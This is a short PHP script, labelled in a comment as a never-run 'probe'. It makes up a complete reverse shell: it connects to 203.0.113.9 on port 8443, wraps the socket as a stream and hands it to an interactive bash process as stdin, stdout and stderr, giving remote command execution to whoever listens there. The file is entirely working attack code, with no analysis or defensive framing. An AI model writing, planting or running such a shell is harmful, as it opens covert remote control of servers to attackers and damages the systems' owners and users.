<?php
// probe (never run): a raw socket turned into a stream and given to a shell as its stdio
$ip = '203.0.113.9'; $port = 8443;
$raw = socket_create(AF_INET, SOCK_STREAM, SOL_TCP);
if (!@socket_connect($raw, $ip, $port)) exit;
$io = socket_export_stream($raw);
$spec = [0 => $io, 1 => $io, 2 => $io];
$p = proc_open('/bin/bash -i', $spec, $unused);
proc_close($p);
